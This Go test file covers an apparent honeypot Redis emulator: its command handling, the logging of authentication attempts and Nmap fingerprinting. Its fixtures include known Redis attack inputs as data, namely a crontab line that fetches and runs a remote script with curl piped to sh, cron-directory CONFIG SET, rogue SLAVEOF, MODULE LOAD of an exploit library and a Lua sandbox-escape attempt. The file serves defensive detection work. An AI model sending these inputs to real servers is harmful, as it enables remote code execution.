package redis

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/masscanned-go/masscanned/internal/app"
	"github.com/masscanned-go/masscanned/internal/app/apptest"
	"github.com/masscanned-go/masscanned/internal/event"
)

var now = time.Date(2026, 11, 30, 9, 24, 13, 0, time.UTC)

func conn(banners map[string]string) *app.Conn {
	c := apptest.Conn(app.TCP, "linux", "198.51.100.1:40000", "192.0.2.10:6379", now)
	c.Banners = banners
	return c
}

func resp(args ...string) string {
	s := fmt.Sprintf("*%d\r\n", len(args))
	for _, a := range args {
		s += fmt.Sprintf("$%d\r\n%s\r\n", len(a), a)
	}
	return s
}

func TestDetect(t *testing.T) {
	h := New()
	for _, tc := range []struct {
		in   string
		want app.Verdict
	}{
		{"", app.Maybe},
		{"*", app.Maybe},
		{"*1", app.Maybe},
		{"*1\r", app.Maybe},
		{"*1\r\n", app.Maybe},
		{"*1\r\n$", app.Yes},
		{resp("INFO"), app.Yes},
		{"*x", app.No},
		{"*1\n$", app.No},
		{"*\r\n", app.No},
		{"PING\r\n", app.Yes},
		{"ping\n", app.Yes},
		{"INFO server\r\n", app.Yes},
		{"config get dir\r\n", app.Yes},
		{"SLAVEOF 203.0.113.9 6379\r\n", app.Yes},
		{"PIN", app.Maybe},
		{"PING", app.Maybe},
		{"S", app.Maybe},
		{"GET / HTTP/1.1\r\n", app.Yes}, // registered after http, which takes it first
		{"QUIT\r\n", app.No},
		{"HELP\r\n", app.No},
		{"USER anonymous\r\n", app.No},
		{"EHLO x\r\n", app.No},
		{"SSH-2.0-x\r\n", app.No},
		{"\x16\x03\x01", app.No},
		{"OPTIONS sip:x SIP/2.0\r\n", app.No},
		{"PINGPONGPINGPONGPING", app.No},
	} {
		if got := h.Detect([]byte(tc.in), app.TCP); got != tc.want {
			t.Errorf("Detect(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
	if h.Detect([]byte(resp("PING")), app.UDP) != app.No {
		t.Error("UDP detected")
	}
}

// serveAll feeds in to a connection's state, all of it, and returns the
// replies, the fields by key (the last of each) and whether it closed.
func serveAll(t *testing.T, c *app.Conn, in string) (string, map[string]any, bool) {
	t.Helper()
	var out strings.Builder
	got := map[string]any{}
	buf := []byte(in)
	for len(buf) > 0 {
		res := New().Serve(c, buf)
		if res.NeedMore {
			t.Fatalf("%q: NeedMore at %q", in, buf)
		}
		out.Write(res.Reply)
		for _, f := range res.Fields {
			got[f.Key] = f.Value
		}
		if res.Close {
			return out.String(), got, true
		}
		if res.Consumed == 0 {
			t.Fatalf("%q: stuck at %q", in, buf)
		}
		buf = buf[res.Consumed:]
	}
	return out.String(), got, false
}

func TestCommands(t *testing.T) {
	for _, tc := range []struct {
		name    string
		banners map[string]string
		in      string
		want    string // reply prefix, or the whole reply with a trailing "$"
		close   bool
		fields  map[string]any
	}{
		{"ping", nil, resp("PING"), "+PONG\r\n$", false, map[string]any{"command": "PING", "redis_command": "ping"}},
		{"ping inline", nil, "PING\r\n", "+PONG\r\n$", false, nil},
		{"ping msg", nil, resp("ping", "hi"), "$2\r\nhi\r\n$", false, nil},
		{"echo", nil, resp("ECHO", "x y"), "$3\r\nx y\r\n$", false, nil},
		{"unknown", nil, resp("FOO", "a", "b"), "-ERR unknown command 'FOO', with args beginning with: 'a' 'b' \r\n$", false, nil},
		{"unknown no args", nil, "nosuch\r\n", "-ERR unknown command 'nosuch', with args beginning with: \r\n$", false, nil},
		{"unknown crlf", nil, resp("FOO", "a\r\nb"), "-ERR unknown command 'FOO', with args beginning with: 'a  b' \r\n$", false, nil},
		{"arity", nil, resp("GET"), "-ERR wrong number of arguments for 'get' command\r\n$", false, nil},
		{"http get", nil, "GET / HTTP/1.0\r\n\r\n", "-ERR wrong number of arguments for 'get' command\r\n$", false, nil},
		{"http post", nil, "POST / HTTP/1.1\r\nHost: x\r\n\r\n", "$", true, map[string]any{"error": "security attack"}},
		{"auth nopass", nil, resp("AUTH", "secret"),
			"-ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?\r\n$",
			false, map[string]any{"auth": event.Auth{Protocol: "redis", User: "default", Password: "secret"}}},
		{"auth default user", nil, resp("AUTH", "default", "x"), "+OK\r\n$", false,
			map[string]any{"auth": event.Auth{Protocol: "redis", User: "default", Password: "x", Success: true}}},
		{"auth required", map[string]string{"redis_auth": "required"}, resp("AUTH", "admin", "pw"),
			"-WRONGPASS invalid username-password pair or user is disabled.\r\n$", false,
			map[string]any{"auth": event.Auth{Protocol: "redis", User: "admin", Password: "pw"}}},
		{"noauth", map[string]string{"redis_auth": "required"}, resp("INFO"), "-NOAUTH Authentication required.\r\n$", false, nil},
		{"config get dir", nil, resp("CONFIG", "GET", "dir"), "*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n$", false, nil},
		{"config get port", nil, resp("config", "get", "p*rt"), "*2\r\n$4\r\nport\r\n$4\r\n6379\r\n$", false, nil},
		{"config get none", nil, resp("config", "get", "nosuch"), "*0\r\n$", false, nil},
		{"config set then get", nil, resp("CONFIG", "SET", "dir", "/var/spool/cron") + resp("CONFIG", "GET", "dir"),
			"+OK\r\n*2\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n$", false, nil},
		{"config set unknown", nil, resp("CONFIG", "SET", "nosuch", "1"), "-ERR Unknown option or number of arguments for CONFIG SET - 'nosuch'\r\n$", false, nil},
		{"config bad sub", nil, resp("CONFIG", "x"), "-ERR unknown subcommand 'x'. Try CONFIG HELP.\r\n$", false, nil},
		{"slaveof", nil, resp("SLAVEOF", "203.0.113.9", "6379"), "+OK\r\n$", false,
			map[string]any{"master": "203.0.113.9:6379", "hosts": []string{"203.0.113.9"}}},
		{"replicaof no one", nil, "REPLICAOF NO ONE\r\n", "+OK\r\n$", false, nil},
		{"module load", nil, resp("MODULE", "LOAD", "/tmp/exp.so"), "-ERR Error loading the extension. Please check the server logs.\r\n$", false,
			map[string]any{"module": "/tmp/exp.so"}},
		{"eval", nil, resp("EVAL", "return 1", "0"), "$-1\r\n$", false, map[string]any{"script": "return 1"}},
		{"eval package", nil, resp("eval", `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io")`, "0"),
			"-ERR user_script:1: Script attempted to access nonexistent global variable 'package'", false, nil},
		{"eval numkeys", nil, resp("EVAL", "return 1", "3"), "-ERR Number of keys can't be greater than number of args\r\n$", false, nil},
		{"evalsha", nil, resp("EVALSHA", "abc", "0"), "-NOSCRIPT No matching script. Please use EVAL.\r\n$", false, nil},
		{"set get", nil, resp("SET", "k", "v") + resp("GET", "k") + resp("GET", "z"), "+OK\r\n$1\r\nv\r\n$-1\r\n$", false, nil},
		{"keys", nil, resp("SET", "a1", "v") + resp("SET", "b1", "v") + resp("KEYS", "a*") + resp("DBSIZE"),
			"+OK\r\n+OK\r\n*1\r\n$2\r\na1\r\n:2\r\n$", false, nil},
		{"del flushall", nil, resp("SET", "a", "v") + resp("DEL", "a", "b") + "FLUSHALL\r\n" + resp("DBSIZE"), "+OK\r\n:1\r\n+OK\r\n:0\r\n$", false, nil},
		{"save", nil, "SAVE\r\nBGSAVE\r\n", "+OK\r\n+Background saving started\r\n$", false, nil},
		{"select", nil, resp("SELECT", "1") + resp("SELECT", "99"), "+OK\r\n-ERR DB index is out of range\r\n$", false, nil},
		{"quit", nil, resp("QUIT"), "+OK\r\n$", true, nil},
		{"crontab", nil, `set x "\n*/1 * * * * curl -fsSL http://203.0.113.5/x.sh|sh\n"` + "\r\n", "+OK\r\n$", false,
			map[string]any{"urls": []string{"http://203.0.113.5/x.sh"}}},
		{"unbalanced", nil, "set x \"abc\r\n", "-ERR Protocol error: unbalanced quotes in request\r\n$", true, nil},
		{"bulk too big", nil, "*1\r\n$999999999\r\n", "-ERR Protocol error: invalid bulk length\r\n$", true, nil},
		{"multibulk too big", nil, "*99999999\r\n", "-ERR Protocol error: invalid multibulk length\r\n$", true, nil},
		{"expected $", nil, "*1\r\n:1\r\n", "-ERR Protocol error: expected '$', got ':'\r\n$", true, nil},
		{"empty array", nil, "*0\r\n" + resp("PING"), "+PONG\r\n$", false, nil},
		{"blank inline", nil, "\r\nPING\r\n", "+PONG\r\n$", false, nil},
		{"hello", nil, resp("HELLO"), "*14\r\n$6\r\nserver\r\n$5\r\nredis\r\n$7\r\nversion\r\n$6\r\n7.0.15\r\n", false, nil},
		{"version banner", map[string]string{"redis": "7.0.11"}, resp("HELLO", "3"), "%7\r\n$6\r\nserver\r\n$5\r\nredis\r\n$7\r\nversion\r\n$6\r\n7.0.11\r\n", false, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := conn(tc.banners)
			out, fields, closed := serveAll(t, c, tc.in)
			want, exact := strings.CutSuffix(tc.want, "$")
			if exact && out != want || !exact && !strings.HasPrefix(out, want) {
				t.Errorf("reply %q, want %q", out, tc.want)
			}
			if closed != tc.close {
				t.Errorf("close %v", closed)
			}
			for k, v := range tc.fields {
				if fmt.Sprint(fields[k]) != fmt.Sprint(v) {
					t.Errorf("field %s = %#v, want %#v", k, fields[k], v)
				}
			}
		})
	}
}

func TestInfo(t *testing.T) {
	c := conn(map[string]string{"uname": "Linux web1 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 (2024-02-01) x86_64 GNU/Linux", "redis": "7.0.11"})
	out, _, _ := serveAll(t, c, resp("INFO", "server"))
	for _, s := range []string{"# Server\r\nredis_version:7.0.11\r\n", "os:Linux 6.1.0-18-amd64 x86_64\r\n", "tcp_port:6379\r\n", "arch_bits:64\r\n"} {
		if !strings.Contains(out, s) {
			t.Errorf("INFO server lacks %q:\n%s", s, out)
		}
	}
	if strings.Contains(out, "# Clients") {
		t.Error("INFO server gave other sections")
	}
	all, _, _ := serveAll(t, conn(nil), resp("INFO"))
	for _, s := range []string{"connected_clients:1", "used_memory:", "role:master", "uptime_in_seconds:"} {
		if !strings.Contains(all, s) {
			t.Errorf("INFO lacks %q", s)
		}
	}
	// uptime grows between connections
	c2 := conn(nil)
	c2.Now = now.Add(time.Minute)
	later, _, _ := serveAll(t, c2, resp("INFO", "server"))
	if up(all)+60 != up(later) {
		t.Errorf("uptime %d then %d", up(all), up(later))
	}
}

func up(info string) int {
	_, rest, _ := strings.Cut(info, "uptime_in_seconds:")
	var n int
	fmt.Sscan(rest, &n)
	return n
}

// TestStreamed: a command cut anywhere, and a bulk larger than what is
// kept, are served the same.
func TestStreamed(t *testing.T) {
	in := resp("SET", "k", strings.Repeat("x", 100)) + resp("GET", "k")
	whole, _, _ := serveAll(t, conn(nil), in)
	for cut := 1; cut < len(in); cut++ {
		c := conn(nil)
		var out []byte
		buf := []byte(in[:cut])
		rest := []byte(in[cut:])
		for {
			res := New().Serve(c, buf)
			if res.NeedMore {
				if len(rest) == 0 {
					t.Fatalf("cut %d: NeedMore at the end", cut)
				}
				buf, rest = append(buf, rest...), nil
				continue
			}
			out = append(out, res.Reply...)
			buf = buf[res.Consumed:]
			if len(buf) == 0 {
				if len(rest) == 0 {
					break
				}
				buf, rest = rest, nil
			}
		}
		if string(out) != whole {
			t.Fatalf("cut %d: %q, want %q", cut, out, whole)
		}
	}
	big := strings.Repeat("y", 100<<10)
	out, fields, _ := serveAll(t, conn(nil), resp("SET", "big", big)+resp("GET", "big")+resp("DBSIZE"))
	if out != "+OK\r\n$-1\r\n:0\r\n" {
		t.Errorf("big value: %q", out)
	}
	if len(fields["command"].(string)) > 1100 {
		t.Errorf("command field not capped: %d", len(fields["command"].(string)))
	}
}

func TestKeyspaceBound(t *testing.T) {
	c := conn(nil)
	var in string
	for i := range 100 {
		in += resp("SET", fmt.Sprint("k", i), "v")
	}
	out, _, _ := serveAll(t, c, in+resp("DBSIZE"))
	if !strings.HasSuffix(out, fmt.Sprintf(":%d\r\n", maxKeys)) {
		t.Errorf("dbsize: %q", out[len(out)-10:])
	}
}

func TestGlob(t *testing.T) {
	for _, tc := range []struct {
		pat, s string
		want   bool
	}{
		{"*", "dir", true}, {"d?r", "dir", true}, {"d[a-j]r", "dir", true}, {"d[^i]r", "dir", false},
		{"*max*", "maxmemory-policy", true}, {"a*b*c", "aXbYc", true}, {"a*b*c", "aXbY", false},
		{`\*`, "*", true}, {"[", "[", true}, {"[abc", "a", false},
		{strings.Repeat("*a", 30) + "b", strings.Repeat("a", 60), false},
	} {
		if got := globMatch(tc.pat, tc.s, false); got != tc.want {
			t.Errorf("globMatch(%q, %q) = %v", tc.pat, tc.s, got)
		}
	}
}

func TestNmap(t *testing.T) {
	out, _, _ := serveAll(t, conn(nil), "*1\r\n$4\r\ninfo\r\n")
	apptest.NmapNames(t, "redis-server", []byte(out), "Redis key-value store")
	get, _, _ := serveAll(t, conn(nil), "GET / HTTP/1.0\r\n\r\n")
	apptest.NmapNames(t, "GetRequest", []byte(get), "Redis key-value store")
}

func FuzzRedis(f *testing.F) {
	for _, s := range []string{resp("PING"), "INFO\r\n", resp("CONFIG", "GET", "*"), `set x "\x41\n"` + "\r\n"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, b := range []map[string]string{nil, {"redis_auth": "required"}} {
			apptest.Drive(t, New(), conn(b), data, apptest.Limits{NoUDPReply: true})
		}
	})
}
